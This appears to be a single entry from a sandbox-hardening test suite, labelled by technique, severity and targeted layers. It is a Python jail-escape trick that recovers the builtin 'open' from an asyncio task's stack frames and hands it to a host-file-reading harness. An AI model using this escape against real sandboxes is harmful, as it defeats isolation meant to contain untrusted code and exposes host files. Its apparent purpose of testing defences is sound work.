# technique: a task of the event loop shows its frames
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import asyncio

    async def main():
        return asyncio.current_task().get_stack()[0].f_builtins["open"]
    return asyncio.run(main())

read_host(trick)
